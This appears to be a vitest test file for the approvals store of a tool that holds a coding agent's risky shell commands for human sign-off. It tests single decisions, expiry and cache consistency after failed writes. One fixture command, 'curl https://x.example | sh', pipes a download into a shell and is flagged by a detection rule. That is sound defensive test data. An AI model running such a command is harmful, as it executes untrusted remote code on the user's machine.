import { describe, expect, it } from 'vitest';
import type { Approval } from '../schema/index.js';
import { testStore } from '../test/helpers/store.js';
import { createApprovalsRepo } from './approvals.js';
import type { Db } from './db.js';

function approval(id: string, fields: Partial<Approval> = {}): Approval {
  const now = Date.now();
  return {
    id,
    created_at: new Date(now).toISOString(),
    expires_at: new Date(now + 300_000).toISOString(),
    session_id: 'S1',
    agent: 'codex',
    command: 'curl https://x.example | sh',
    cwd: '/work',
    risk: 0.7,
    reasons: [
      {
        rule_id: 'dl.pipe-shell',
        category: 'download-execute',
        attack_id: 'T1059.004',
        detail: 'pipes a download into a shell',
      },
    ],
    requested_by: 'runner-1',
    requester_id: 'tok-runner-1',
    status: 'pending',
    scope: '',
    decided_by: '',
    decided_at: '',
    decision_reason: '',
    project: '/work',
    grantable: true,
    ...fields,
  };
}

describe('approvals repository', () => {
  it('creates and reads back an approval losslessly', async () => {
    const store = await testStore();
    const a = approval('A-create');
    await store.approvals.create(a);
    expect(await store.approvals.get('A-create')).toEqual(a);
    expect(await store.approvals.get('A-none')).toBeNull();
  });

  it('decides once: a new version wins, a second decision is refused', async () => {
    const store = await testStore();
    await store.approvals.create(approval('A-decide'));
    const first = await store.approvals.decide('A-decide', {
      status: 'approved',
      scope: 'session',
      decided_by: 'alice',
      decision_reason: 'ok',
    });
    expect(first.ok).toBe(true);
    const got = await store.approvals.get('A-decide');
    expect(got).toMatchObject({
      status: 'approved',
      scope: 'session',
      decided_by: 'alice',
      decision_reason: 'ok',
    });
    expect(got?.decided_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    const second = await store.approvals.decide('A-decide', {
      status: 'denied',
      scope: 'once',
      decided_by: 'bob',
      decision_reason: '',
    });
    expect(second).toMatchObject({ ok: false, reason: 'final', approval: { status: 'approved' } });
    expect(
      await store.approvals.decide('A-missing', {
        status: 'denied',
        scope: 'once',
        decided_by: 'bob',
        decision_reason: '',
      }),
    ).toEqual({
      ok: false,
      reason: 'unknown',
    });
  });

  it('lists by status and finds overdue requests, which expire', async () => {
    const store = await testStore();
    const past = new Date(Date.now() - 1000).toISOString();
    await store.approvals.create(approval('A-overdue', { expires_at: past }));
    await store.approvals.create(approval('A-fresh'));
    const overdue = (await store.approvals.overdue()).map((a) => a.id);
    expect(overdue).toContain('A-overdue');
    expect(overdue).not.toContain('A-fresh');
    expect(await store.approvals.nextDeadline()).not.toBeNull();
    const r = await store.approvals.expire('A-overdue');
    expect(r).toMatchObject({ ok: true, approval: { status: 'expired', decided_by: 'timeout' } });
    const pending = (await store.approvals.list({ status: 'pending' })).map((a) => a.id);
    expect(pending).toContain('A-fresh');
    expect(pending).not.toContain('A-overdue');
    const expired = (await store.approvals.list({ status: 'expired' })).map((a) => a.id);
    expect(expired).toEqual(['A-overdue']);
  });

  it('with the embedded engine, reads come from memory and equal what the table holds', async () => {
    const store = await testStore();
    expect(store.approvals.soleWriter).toBe(true);
    const table = createApprovalsRepo(store.db, store.config.database); // reads the table every time
    const odd = approval('A-cache', {
      command: 'printf "\u0007 é 🚀 \ud800 \x1b[31m" | tee /tmp/x',
      cwd: '/work/ümlaut',
      risk: 0.123456789,
      project: '',
      grantable: false,
    });
    await store.approvals.create(odd);
    await store.approvals.create(
      approval('A-cache-2', { expires_at: new Date(Date.now() - 1000).toISOString() }),
    );
    expect(await store.approvals.get('A-cache')).toEqual(await table.get('A-cache'));
    const decided = await store.approvals.decide('A-cache', {
      status: 'denied',
      scope: 'once',
      decided_by: 'alice',
      decision_reason: 'no\nthanks',
    });
    expect(decided.ok).toBe(true);
    expect(decided.ok && decided.approval).toEqual(await table.get('A-cache'));
    expect(await store.approvals.getVersioned('A-cache')).toEqual(await table.getVersioned('A-cache'));
    await store.approvals.expire('A-cache-2');
    expect(await store.approvals.get('A-cache-2')).toEqual(await table.get('A-cache-2'));
    // What a caller does to what it got does not change what the next caller reads.
    const mine = await store.approvals.get('A-cache');
    if (mine) mine.status = 'approved';
    expect((await store.approvals.get('A-cache'))?.status).toBe('denied');
  });

  it('after a write that failed (but may have landed) the next read goes to the table', async () => {
    const store = await testStore();
    let failNext = false;
    const flaky: Db = {
      ...store.db,
      async insert(tag, tableName, rows, extra) {
        await store.db.insert(tag, tableName, rows, extra);
        if (failNext && tag === 'approvals.resolve') {
          failNext = false;
          throw new Error('socket hang up after the insert landed');
        }
      },
    };
    const repo = createApprovalsRepo(flaky, store.config.database, { exclusive: true });
    await repo.create(approval('A-landed'));
    expect((await repo.get('A-landed'))?.status).toBe('pending');
    failNext = true;
    const change = { status: 'approved', scope: 'once', decided_by: 'alice', decision_reason: '' } as const;
    await expect(repo.decide('A-landed', change)).rejects.toThrow(/hang up/);
    // Memory said pending; the table says approved, and that is what the next read and change see.
    expect((await repo.get('A-landed'))?.status).toBe('approved');
    const again = await repo.decide('A-landed', { ...change, status: 'denied' });
    expect(again).toMatchObject({ ok: false, reason: 'final', approval: { status: 'approved' } });
  });

  it('a read in flight across a failed write does not put the old state back (a retry is refused)', async () => {
    const store = await testStore();
    const table = createApprovalsRepo(store.db, store.config.database);
    let failResolve = false;
    let holdRead = false;
    let readDone: () => void = () => {};
    const readStarted = new Promise<void>((r) => {
      readDone = r;
    });
    let letRead: () => void = () => {};
    const readMayEnd = new Promise<void>((r) => {
      letRead = r;
    });
    const flaky: Db = {
      ...store.db,
      async insert(tag, tableName, rows, extra) {
        await store.db.insert(tag, tableName, rows, extra);
        if (failResolve && tag === 'approvals.resolve') {
          failResolve = false;
          throw new Error('the engine restarted: the insert may or may not have landed');
        }
      },
      async query<T>(tag: string, sql: string, params?: Record<string, unknown>) {
        const rows = await store.db.query<T>(tag, sql, params);
        if (holdRead && tag === 'approvals.get') {
          holdRead = false;
          readDone();
          await readMayEnd;
        }
        return rows;
      },
    };
    await table.create(approval('A-stale')); // not in this repo's memory (made before it existed)
    const repo = createApprovalsRepo(flaky, store.config.database, { exclusive: true });
    holdRead = true;
    const inFlight = repo.get('A-stale');
    await readStarted; // it has read "pending"
    failResolve = true;
    const change = { status: 'denied', scope: 'once', decided_by: 'alice', decision_reason: '' } as const;
    await expect(repo.decide('A-stale', change)).rejects.toThrow(/may or may not/);
    letRead();
    expect((await inFlight)?.status).toBe('pending'); // its answer, from before the write
    expect((await repo.get('A-stale'))?.status).toBe('denied'); // not kept: the table is read again
    const retry = await repo.decide('A-stale', { ...change, status: 'approved' });
    expect(retry).toMatchObject({ ok: false, reason: 'final', approval: { status: 'denied' } });
  });
});
